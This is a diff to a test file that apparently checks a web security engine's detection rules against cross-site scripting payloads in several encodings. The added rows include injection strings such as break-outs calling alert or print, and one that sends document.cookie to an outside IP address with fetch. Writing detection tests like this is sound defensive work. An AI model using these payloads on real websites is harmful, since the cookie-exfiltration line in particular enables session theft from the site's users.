@@ -58,6 +58,14 @@ describe('XSS techniques (own knowledge, each in raw, URL and double URL encodin
     ['a number literal indexed and called', 'x;1[c+o](d)', 200136],
     ['a single constant ternary over strings', "u=false ? '' : 'prompt'", 200136],
     ['letter-free JavaScript spaced out', '( ! [ ] + [ ] ) [ + [ ] ]', 200130],
+    ['"undefined" as a letter source', '([][[]]+"")[1]', 200130],
+    ['string break-out calling print()', "';print()//", 200106],
+    ['string break-out calling fetch', "\";fetch('//203.0.113.9/'+document.cookie)//", 200106],
+    ['window.onerror pointed at a sink', 'window.onerror=alert;throw 1', 200118],
+    ['a sink renamed and called', 'x=alert,x(1)', 200118],
+    ['navigation to window.name', "';location=name//", 200118],
+    ['spaced with() scope', 'with ( document ) write(1)', 200132],
+    ['Netscape JavaScript entity', '&{alert(1)};', 200114],
   ])('%s', (_technique, payload, id) => {
     for (const value of encodings(payload)) {
       // Query values arrive percent-decoded once: the engine's decoding layer undoes the rest.
